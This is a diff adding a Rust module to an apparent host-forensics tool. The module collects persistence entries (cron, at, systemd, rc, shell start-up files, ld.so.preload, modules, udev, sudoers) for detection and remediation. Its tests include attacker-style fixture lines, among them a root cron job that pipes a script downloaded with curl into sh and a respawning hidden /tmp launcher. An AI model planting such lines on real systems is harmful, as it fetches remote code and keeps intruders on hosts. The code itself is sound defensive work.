@@ -1,0 +1,667 @@
+//! Persistence entries: every line of the host that makes something run again — cron, anacron and `at`
+//! jobs, the `/etc/cron.{hourly,...}` scripts, systemd units and timers (system and per-user), rc/init
+//! scripts, shell start-up files, the loader's preload list, kernel modules loaded at boot and `modprobe`
+//! hooks, udev rules and sudoers rules — read once into one list ([`HostModel::persistence`]) with what
+//! each line says: when it runs, as whom, the command, and the paths and URLs it names.
+//!
+//! Where persistence lives is decided here and nowhere else: [`location`] maps a path to its
+//! [`PersistenceKind`] and line format. Detectors score the entries, the graph draws them, the remediation
+//! removes the lines findings point at. A new location is a new arm in [`location`] (and a kind when it
+//! is a new mechanism); a new format is a new [`Format`] with its reader in [`entries_of`].
+
+use minetrace_schemas::escape_bytes;
+use minetrace_schemas::records::file::{FileKind, FileRecord};
+use minetrace_schemas::RawBytes;
+
+use super::accounts::Accounts;
+use super::HostModel;
+use crate::parse::cron::{self, CronFormat, CronLine};
+use crate::parse::refs::{self, Refs};
+use crate::parse::systemd_unit::{self, Unit};
+use crate::parse::{basename, contains, dirname, numbered_lines, words};
+
+/// Entries kept over the whole host; a shaped bundle cannot make the list unbounded.
+pub const MAX_ENTRIES: usize = 20_000;
+
+/// The mechanism that runs an entry.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum PersistenceKind {
+    /// `/etc/crontab`, `/etc/cron.d/*`, user spools.
+    Cron,
+    /// `/etc/anacrontab`.
+    Anacron,
+    /// Scripts in `/etc/cron.{hourly,daily,weekly,monthly}/`.
+    CronScript,
+    /// `at` jobs (the job body after at's own preamble).
+    At,
+    /// systemd services, timers, sockets, paths and drop-ins (system, vendor, runtime, per-user).
+    Systemd,
+    /// rc scripts, init scripts, `inittab`, `boot.local`.
+    Rc,
+    /// Shell start-up files: `/etc/profile`, `/etc/profile.d/*`, `bash.bashrc`, `/etc/environment`, every
+    /// home's `.bashrc`, `.profile`, ...
+    ShellStartup,
+    /// `/etc/ld.so.preload`.
+    Preload,
+    /// `/etc/modules`, `modules-load.d/*.conf`, `modprobe.d/*.conf`.
+    Modules,
+    /// udev rules.
+    Udev,
+    /// `/etc/sudoers`, `/etc/sudoers.d/*`.
+    Sudoers,
+}
+
+impl PersistenceKind {
+    /// A distinct name per kind.
+    pub fn name(self) -> &'static str {
+        match self {
+            PersistenceKind::Cron => "cron",
+            PersistenceKind::Anacron => "anacron",
+            PersistenceKind::CronScript => "cron_script",
+            PersistenceKind::At => "at",
+            PersistenceKind::Systemd => "systemd",
+            PersistenceKind::Rc => "rc",
+            PersistenceKind::ShellStartup => "profile",
+            PersistenceKind::Preload => "preload",
+            PersistenceKind::Modules => "modules",
+            PersistenceKind::Udev => "udev",
+            PersistenceKind::Sudoers => "sudoers",
+        }
+    }
+
+    /// The scheduler family, as graph node ids name it (`persist:{family}:{path}:{line}`): the three cron
+    /// kinds are `cron`, every other kind its [`PersistenceKind::name`].
+    pub fn family(self) -> &'static str {
+        match self {
+            PersistenceKind::Cron | PersistenceKind::Anacron | PersistenceKind::CronScript => {
+                "cron"
+            }
+            other => other.name(),
+        }
+    }
+}
+
+/// How a location's lines are read.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Format {
+    /// A crontab (system, user spool or anacrontab).
+    Crontab(CronFormat),
+    /// Shell text: every line that is not blank or a comment.
+    Script,
+    /// An `at` job: the body after at's preamble.
+    AtJob,
+    /// `/etc/inittab`: `id:runlevels:action:process`, the process runs.
+    Inittab,
+    /// A systemd unit: `Exec*=` commands, timer schedules.
+    Unit,
+    /// `/etc/ld.so.preload`: libraries separated by blanks and colons.
+    Preload,
+    /// One module name a line.
+    ModuleList,
+    /// `modprobe.d`: `install MODULE COMMAND` runs a shell command.
+    Modprobe,
+    /// udev rules: `RUN+=` programs.
+    Udev,
+    /// sudoers rules.
+    Sudoers,
+}
+
+/// Where a path sits among the persistence locations.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Location {
+    pub kind: PersistenceKind,
+    pub format: Format,
+}
+
+/// Home-directory shell start-up files (`.bashrc`, `.profile`, ...).
+pub const HOME_STARTUP_FILES: &[&[u8]] = &[
+    b".bashrc",
+    b".bash_profile",
+    b".bash_login",
+    b".profile",
+    b".bash_logout",
+    b".zshrc",
+    b".zprofile",
+    b".zshenv",
+    b".zlogin",
+    b".cshrc",
+    b".tcshrc",
+];
+
+/// System-wide shell start-up files.
+const SYSTEM_STARTUP_FILES: &[&[u8]] = &[
+    b"/etc/profile",
+    b"/etc/bash.bashrc",
+    b"/etc/bashrc",
+    b"/etc/zshrc",
+    b"/etc/zsh/zshrc",
+    b"/etc/zsh/zprofile",
+    b"/etc/zsh/zshenv",
+    b"/etc/csh.cshrc",
+    b"/etc/csh.login",
+    b"/etc/environment",
+];
+
+/// Shell start-up files: where a line runs at every login.
+pub fn is_shell_startup(path: &[u8]) -> bool {
+    SYSTEM_STARTUP_FILES.contains(&path)
+        || (path.starts_with(b"/etc/profile.d/") && !path.ends_with(b"/"))
+        || HOME_STARTUP_FILES.contains(&basename(path))
+}
+
+/// rc and init locations.
+pub fn is_rc(path: &[u8]) -> bool {
+    let exact: &[&[u8]] = &[
+        b"/etc/rc.local",
+        b"/etc/rc.d/rc.local",
+        b"/etc/inittab",
+        b"/etc/init.d/rcS",
+        b"/etc/init.d/boot.local",
+        b"/etc/rc.d/boot.local",
+        b"/etc/boot.local",
+    ];
+    if exact.contains(&path) {
+        return true;
+    }
+    if path.starts_with(b"/etc/init.d/") || path.starts_with(b"/etc/rc.d/init.d/") {
+        return true;
+    }
+    // /etc/rc0.d/ .. /etc/rc6.d/, /etc/rcS.d/, /etc/rc.d/rc3.d/
+    let rest = path
+        .strip_prefix(b"/etc/rc.d/rc")
+        .or_else(|| path.strip_prefix(b"/etc/rc"));
+    matches!(rest, Some(r) if r.len() > 3 && r.get(1..4) == Some(b".d/"))
+}
+
+fn is_cron_script(path: &[u8]) -> bool {
+    [
+        &b"/etc/cron.hourly/"[..],
+        b"/etc/cron.daily/",
+        b"/etc/cron.weekly/",
+        b"/etc/cron.monthly/",
+    ]
+    .iter()
+    .any(|d| path.starts_with(d))
+}
+
+fn is_at_job(path: &[u8]) -> bool {
+    (path.starts_with(b"/var/spool/cron/atjobs/") || path.starts_with(b"/var/spool/at/"))
+        && !basename(path).starts_with(b".")
+        && !path.ends_with(b"/spool")
+        && !path.starts_with(b"/var/spool/at/spool/")
+}
+
+fn is_modules_load(p: &[u8]) -> bool {
+    p == b"/etc/modules"
+        || (p.ends_with(b".conf")
+            && [
+                &b"/etc/modules-load.d/"[..],
+                b"/usr/lib/modules-load.d/",
+                b"/lib/modules-load.d/",
+                b"/run/modules-load.d/",
+            ]
+            .iter()
+            .any(|d| p.starts_with(d)))
+}
+
+fn is_modprobe_d(p: &[u8]) -> bool {
+    p.ends_with(b".conf")
+        && (p.starts_with(b"/etc/modprobe.d/") || p.starts_with(b"/lib/modprobe.d/"))
+}
+
+/// The persistence location of a path, or `None` when nothing runs its lines.
+pub fn location(path: &[u8]) -> Option<Location> {
+    let at = |kind, format| Some(Location { kind, format });
+    if let Some(f) = cron::format_for_path(path) {
+        let kind = if f == CronFormat::Anacron {
+            PersistenceKind::Anacron
+        } else {
+            PersistenceKind::Cron
+        };
+        return at(kind, Format::Crontab(f));
+    }
+    if is_cron_script(path) {
+        return at(PersistenceKind::CronScript, Format::Script);
+    }
+    if is_at_job(path) {
+        return at(PersistenceKind::At, Format::AtJob);
+    }
+    if systemd_unit::is_unit_path(path) {
+        return at(PersistenceKind::Systemd, Format::Unit);
+    }
+    if path == b"/etc/inittab" {
+        return at(PersistenceKind::Rc, Format::Inittab);
+    }
+    if is_rc(path) {
+        return at(PersistenceKind::Rc, Format::Script);
+    }
+    if is_shell_startup(path) {
+        return at(PersistenceKind::ShellStartup, Format::Script);
+    }
+    if path == b"/etc/ld.so.preload" {
+        return at(PersistenceKind::Preload, Format::Preload);
+    }
+    if is_modules_load(path) {
+        return at(PersistenceKind::Modules, Format::ModuleList);
+    }
+    if is_modprobe_d(path) {
+        return at(PersistenceKind::Modules, Format::Modprobe);
+    }
+    if path.starts_with(b"/etc/udev/rules.d/") || path.starts_with(b"/run/udev/rules.d/") {
+        return at(PersistenceKind::Udev, Format::Udev);
+    }
+    if path == b"/etc/sudoers" || path.starts_with(b"/etc/sudoers.d/") {
+        return at(PersistenceKind::Sudoers, Format::Sudoers);
+    }
+    None
+}
+
+/// When an entry runs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Schedule {
+    /// A cron or anacron schedule.
+    Cron(cron::Schedule),
+    /// A systemd timer setting (`OnCalendar=daily`, `OnBootSec=5min`).
+    Timer { key: String, value: Vec<u8> },
+}
+
+impl Schedule {
+    /// The schedule as written, escaped.
+    pub fn display(&self) -> String {
+        match self {
+            Schedule::Cron(s) => s.display(),
+            Schedule::Timer { key, value } => format!("{key}={}", escape_bytes(value)),
+        }
+    }
+
+    /// The cron schedule, for cron and anacron entries.
+    pub fn cron(&self) -> Option<&cron::Schedule> {
+        match self {
+            Schedule::Cron(s) => Some(s),
+            Schedule::Timer { .. } => None,
+        }
+    }
+}
+
+/// Whose account an entry runs as, and how that is known.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RunAsSource {
+    /// The user field of a system crontab.
+    CronUserField,
+    /// The name of a user spool crontab.
+    SpoolName,
+    /// `User=` of a systemd service.
+    UnitUser,
+}
+
+/// One persisted line.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PersistenceEntry {
+    pub kind: PersistenceKind,
+    pub format: Format,
+    /// The file it is in (index into [`HostModel::files`]) and that file's path.
+    pub file: usize,
+    pub path: RawBytes,
+    /// 1-based line in the captured file.
+    pub line: u32,
+    /// The line as written (without its line ending).
+    pub raw: Vec<u8>,
+    pub schedule: Option<Schedule>,
+    /// The account it runs as, when the line or its file says so.
+    pub run_as: Option<Vec<u8>>,
+    pub run_as_source: Option<RunAsSource>,
+    /// The command (crontab command field, `Exec*=` value without prefixes, the shell line, the library
+    /// list, the module name, the sudoers rule).
+    pub command: Vec<u8>,
+    /// Whether the mechanism acts on the line: `false` for a crontab line cron rejects (kept because an
+    /// attacker's junk — a Redis dump around a cron line — is still evidence).
+    pub runs: bool,
+    /// URLs, paths and downloads the command names (for `ld.so.preload`, the libraries).
+    pub refs: Refs,
+}
+
+impl PersistenceEntry {
+    /// The uid whose home a `~/` in the command means: the account it runs as, else the file's owner.
+    pub fn home_uid(&self, accounts: &Accounts, file_uid: u32) -> Option<u32> {
+        self.run_as
+            .as_deref()
+            .and_then(|u| accounts.uid_of(u))
+            .or(Some(file_uid))
+    }
+}
+
+/// Every entry of the captured regular files, in file order, capped at [`MAX_ENTRIES`].
+pub fn collect(model: &HostModel) -> Vec<PersistenceEntry> {
+    let mut out = Vec::new();
+    for (i, f) in model.files.iter().enumerate() {
+        if f.kind != FileKind::Regular {
+            continue;
+        }
+        let Some(loc) = location(f.path.as_bytes()) else {
+            continue;
+        };
+        let Some(content) = model.content(f) else {
+            continue;
+        };
+        for e in entries_of(i, f, content, loc) {
+            if out.len() >= MAX_ENTRIES {
+                return out;
+            }
+            out.push(e);
+        }
+    }
+    out
+}
+
+/// The entries of one file at a location.
+pub fn entries_of(
+    index: usize,
+    f: &FileRecord,
+    content: &[u8],
+    loc: Location,
+) -> Vec<PersistenceEntry> {
+    let at = InFile {
+        index,
+        file: f,
+        loc,
+    };
+    let entry = |line: u32, raw: &[u8], command: &[u8]| at.entry(line, raw, command);
+    let mut out = Vec::new();
+    match loc.format {
+        Format::Crontab(format) => {
+            let spool = cron::spool_user(f.path.as_bytes()).map(<[u8]>::to_vec);
+            for line in cron::parse(content, format) {
+                match line {
+                    CronLine::Entry(c) => {
+                        let mut e = entry(c.line, &c.raw, &c.command);
+                        e.schedule = Some(Schedule::Cron(c.schedule));
+                        match (c.user, &spool) {
+                            (Some(u), _) => {
+                                e.run_as = Some(u);
+                                e.run_as_source = Some(RunAsSource::CronUserField);
+                            }
+                            (None, Some(u)) => {
+                                e.run_as = Some(u.clone());
+                                e.run_as_source = Some(RunAsSource::SpoolName);
+                            }
+                            (None, None) => {}
+                        }
+                        out.push(e);
+                    }
+                    CronLine::Invalid { line, raw } => {
+                        let mut e = entry(line, &raw, raw.trim_ascii());
+                        e.runs = false;
+                        out.push(e);
+                    }
+                    CronLine::Env { .. } | CronLine::Comment { .. } => {}
+                }
+            }
+        }
+        Format::Script | Format::Udev => {
+            for (n, raw) in numbered_lines(content) {
+                let t = raw.trim_ascii();
+                if !t.is_empty() && !t.starts_with(b"#") {
+                    out.push(entry(n, raw, t));
+                }
+            }
+        }
+        Format::AtJob => {
+            for (n, text) in cron::at_job_lines(content) {
+                out.push(entry(n, text, text.trim_ascii()));
+            }
+        }
+        Format::Inittab => {
+            for (n, raw) in numbered_lines(content) {
+                let t = raw.trim_ascii();
+                if t.is_empty() || t.starts_with(b"#") {
+                    continue;
+                }
+                if let Some(process) = t.splitn(4, |b| *b == b':').nth(3) {
+                    out.push(entry(n, raw, process));
+                }
+            }
+        }
+        Format::Unit => unit_entries(content, &at, &mut out),
+        Format::Preload => {
+            for (n, raw) in numbered_lines(content) {
+                let t = raw.trim_ascii();
+                if t.is_empty() || t.starts_with(b"#") {
+                    continue;
+                }
+                let mut e = entry(n, raw, t);
+                e.refs = Refs {
+                    paths: preload_libraries(t)
+                        .filter(|p| p.starts_with(b"/"))
+                        .take(16)
+                        .map(<[u8]>::to_vec)
+                        .collect(),
+                    ..Refs::default()
+                };
+                out.push(e);
+            }
+        }
+        Format::ModuleList => {
+            for (n, raw) in numbered_lines(content) {
+                let t = raw.trim_ascii();
+                if !t.is_empty() && !t.starts_with(b"#") && !t.starts_with(b";") {
+                    let mut e = entry(n, raw, t);
+                    e.refs = Refs::default();
+                    out.push(e);
+                }
+            }
+        }
+        Format::Modprobe => {
+            for (n, raw) in numbered_lines(content) {
+                let mut w = words(raw.trim_ascii());
+                if w.next() != Some(b"install") || w.next().is_none() {
+                    continue;
+                }
+                let t = raw.trim_ascii();
+                // `install MODULE COMMAND...`: the command starts after the module name.
+                let command = t
+                    .splitn(3, |b| *b == b' ' || *b == b'\t')
+                    .nth(2)
+                    .unwrap_or_default()
+                    .trim_ascii();
+                out.push(entry(n, raw, command));
+            }
+        }
+        Format::Sudoers => {
+            for rule in crate::parse::sudoers::parse(content) {
+                let mut e = entry(rule.line, &rule.raw, &rule.raw);
+                e.refs = Refs::default();
+                out.push(e);
+            }
+        }
+    }
+    out
+}
+
+/// The file entries are read from.
+struct InFile<'a> {
+    index: usize,
+    file: &'a FileRecord,
+    loc: Location,
+}
+
+impl InFile<'_> {
+    /// An entry of this file with what every entry has; the format's reader adds the rest.
+    fn entry(&self, line: u32, raw: &[u8], command: &[u8]) -> PersistenceEntry {
+        PersistenceEntry {
+            kind: self.loc.kind,
+            format: self.loc.format,
+            file: self.index,
+            path: self.file.path.clone(),
+            line,
+            raw: raw.to_vec(),
+            schedule: None,
+            run_as: None,
+            run_as_source: None,
+            command: command.to_vec(),
+            runs: true,
+            refs: refs::refs(command),
+        }
+    }
+}
+
+/// `Exec*=` commands of a service (run as `User=`) and the schedules of a timer (its command is the unit
+/// it starts).
+fn unit_entries(content: &[u8], at: &InFile, out: &mut Vec<PersistenceEntry>) {
+    let entry = |line: u32, raw: &[u8], command: &[u8]| at.entry(line, raw, command);
+    let unit = Unit::parse(content);
+    let lines: Vec<&[u8]> = numbered_lines(content).map(|(_, l)| l).collect();
+    let raw_of = |n: u32| {
+        usize::try_from(n)
+            .ok()
+            .and_then(|k| lines.get(k.checked_sub(1)?))
+            .copied()
+            .unwrap_or_default()
+    };
+    // `User=%i` and other specifiers are filled in per instance: not an account name.
+    let user = unit
+        .user()
+        .filter(|u| !u.contains(&b'%'))
+        .map(<[u8]>::to_vec);
+    for c in unit.exec_commands() {
+        let mut e = entry(c.line, raw_of(c.line), &c.raw);
+        if let Some(u) = &user {
+            e.run_as = Some(u.clone());
+            e.run_as_source = Some(RunAsSource::UnitUser);
+        }
+        out.push(e);
+    }
+    let started = unit.timer_unit().map(<[u8]>::to_vec);
+    for t in unit.entries.iter().filter(|e| {
+        e.section.eq_ignore_ascii_case("Timer") && e.key.starts_with("On") && !e.value.is_empty()
+    }) {
+        let mut e = entry(
+            t.line,
+            raw_of(t.line),
+            started.as_deref().unwrap_or_default(),
+        );
+        e.refs = Refs::default();
+        e.schedule = Some(Schedule::Timer {
+            key: t.key.clone(),
+            value: t.value.clone(),
+        });
+        out.push(e);
+    }
+}
+
+/// The libraries of an `ld.so.preload` line: the loader splits on blanks and colons.
+pub fn preload_libraries(line: &[u8]) -> impl Iterator<Item = &[u8]> {
+    words(line)
+        .flat_map(|w| w.split(|b| *b == b':'))
+        .filter(|w| !w.is_empty())
+}
+
+/// The unit a drop-in belongs to (`x.service` for `.../x.service.d/y.conf`), or the file name.
+pub fn unit_name(path: &[u8]) -> &[u8] {
+    let name = basename(path);
+    if name.ends_with(b".conf") {
+        let dir = basename(dirname(path));
+        return dir.strip_suffix(b".d").unwrap_or(dir);
+    }
+    name
+}
+
+/// Whether a path is a per-user unit (`~/.config/systemd/user/`, `/etc/systemd/user/`, ...).
+pub fn is_user_unit(path: &[u8]) -> bool {
+    contains(path, b"/systemd/user/")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::fixture;
+
+    #[test]
+    fn locations() {
+        let kind = |p: &[u8]| location(p).map(|l| l.kind);
+        assert_eq!(kind(b"/etc/crontab"), Some(PersistenceKind::Cron));
+        assert_eq!(
+            kind(b"/var/spool/cron/crontabs/redis"),
+            Some(PersistenceKind::Cron)
+        );
+        assert_eq!(kind(b"/var/spool/cron/root"), Some(PersistenceKind::Cron));
+        assert_eq!(kind(b"/etc/anacrontab"), Some(PersistenceKind::Anacron));
+        assert_eq!(
+            kind(b"/etc/cron.daily/x"),
+            Some(PersistenceKind::CronScript)
+        );
+        assert_eq!(
+            kind(b"/var/spool/cron/atjobs/a0001"),
+            Some(PersistenceKind::At)
+        );
+        assert_eq!(
+            kind(b"/etc/systemd/system/bot.service"),
+            Some(PersistenceKind::Systemd)
+        );
+        assert_eq!(
+            kind(b"/home/u/.config/systemd/user/x.timer"),
+            Some(PersistenceKind::Systemd)
+        );
+        assert_eq!(kind(b"/etc/ld.so.preload"), Some(PersistenceKind::Preload));
+        assert_eq!(
+            kind(b"/home/git/.bashrc"),
+            Some(PersistenceKind::ShellStartup)
+        );
+        assert_eq!(kind(b"/etc/rc3.d/S90pwnrig"), Some(PersistenceKind::Rc));
+        assert_eq!(kind(b"/etc/inittab"), Some(PersistenceKind::Rc));
+        assert_eq!(kind(b"/etc/modules"), Some(PersistenceKind::Modules));
+        assert_eq!(
+            kind(b"/etc/udev/rules.d/99-x.rules"),
+            Some(PersistenceKind::Udev)
+        );
+        assert_eq!(kind(b"/etc/sudoers.d/x"), Some(PersistenceKind::Sudoers));
+        assert_eq!(kind(b"/etc/passwd"), None);
+    }
+
+    #[test]
+    fn entries_with_schedule_user_command_and_refs() {
+        let model = fixture::model(
+            vec![
+                fixture::file(
+                    b"/etc/crontab",
+                    Some(b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://x.example/a.sh | sh\nREDIS0009 junk\n"),
+                ),
+                fixture::file(
+                    b"/var/spool/cron/crontabs/redis",
+                    Some(b"@reboot ~/.configrc/a/upd>/dev/null\n"),
+                ),
+                fixture::file(
+                    b"/etc/systemd/system/x.service",
+                    Some(b"[Service]\nUser=redis\nExecStart=-/tmp/x \\\n  --url http://p.example:80\n"),
+                ),
+                fixture::file(b"/etc/ld.so.preload", Some(b"/lib/a.so:/usr/lib/b.so\n")),
+                fixture::file(b"/etc/inittab", Some(b"x:3:respawn:/tmp/.k/run\n")),
+            ],
+            vec![],
+        );
+        let e = &model.persistence;
+        assert_eq!(e.len(), 6, "{e:#?}");
+        assert_eq!(e[0].line, 2);
+        assert_eq!(e[0].run_as.as_deref(), Some(&b"root"[..]));
+        assert_eq!(e[0].refs.urls, vec![b"http://x.example/a.sh".to_vec()]);
+        assert_eq!(
+            e[0].schedule.as_ref().map(Schedule::display).as_deref(),
+            Some("*/5 * * * *")
+        );
+        assert!(!e[1].runs);
+        assert_eq!(e[2].run_as_source, Some(RunAsSource::SpoolName));
+        assert_eq!(e[2].command, b"~/.configrc/a/upd>/dev/null");
+        assert_eq!(
+            (e[3].line, e[3].run_as.as_deref()),
+            (3, Some(&b"redis"[..]))
+        );
+        assert_eq!(e[3].command, b"/tmp/x --url http://p.example:80");
+        assert_eq!(
+            e[4].refs.paths,
+            vec![b"/lib/a.so".to_vec(), b"/usr/lib/b.so".to_vec()]
+        );
+        assert_eq!(
+            (e[5].kind, e[5].command.as_slice()),
+            (PersistenceKind::Rc, &b"/tmp/.k/run"[..])
+        );
+    }
+}
